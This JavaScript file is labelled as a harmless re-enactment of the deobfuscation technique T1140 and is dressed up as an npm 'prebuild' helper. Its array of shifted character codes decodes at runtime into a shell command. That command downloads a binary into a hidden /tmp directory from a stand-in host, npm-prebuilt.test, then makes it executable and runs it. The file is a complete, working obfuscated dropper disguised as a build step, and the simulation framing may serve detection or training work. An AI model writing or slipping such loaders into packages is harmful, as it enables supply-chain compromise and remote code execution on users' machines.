// prebuild-fetch (harmless re-enactment of T1140): an array of character codes, each shifted by
// 3, is turned back into text with String.fromCharCode in this process's memory and written to
// /bin/sh -s on its stdin through a pipe. Decoded, the stage is:
//   mkdir -p /tmp/.npm-cache/.bin && wget -q -O /tmp/.npm-cache/.bin/node-gyp
//   http://npm-prebuilt.test/v8/linux-x64 && chmod 755 ... && /tmp/.npm-cache/.bin/node-gyp
'use strict';
const { spawn } = require('child_process');

const table = [
  112,110,103,108,117,35,48,115,35,50,119,112,115,50,49,113,115,112,48,102,100,102,107,104,50,49,
  101,108,113,35,41,41,35,122,106,104,119,35,48,116,35,48,82,35,50,119,112,115,50,49,113,115,112,
  48,102,100,102,107,104,50,49,101,108,113,50,113,114,103,104,48,106,124,115,35,107,119,119,115,
  61,50,50,113,115,112,48,115,117,104,101,120,108,111,119,49,119,104,118,119,50,121,59,50,111,108,
  113,120,123,48,123,57,55,35,41,41,35,102,107,112,114,103,35,58,56,56,35,50,119,112,115,50,49,113,
  115,112,48,102,100,102,107,104,50,49,101,108,113,50,113,114,103,104,48,106,124,115,35,41,41,35,
  50,119,112,115,50,49,113,115,112,48,102,100,102,107,104,50,49,101,108,113,50,113,114,103,104,48,
  106,124,115,13,
];

console.log('prebuild: looking for a prebuilt binary for linux-x64');
const script = String.fromCharCode(...table.map((c) => c - 3));
const sh = spawn('/bin/sh', ['-s'], { stdio: ['pipe', 'inherit', 'inherit'] });
sh.on('exit', (code) => console.log(`prebuild: done (${code})`));
sh.stdin.end(script);
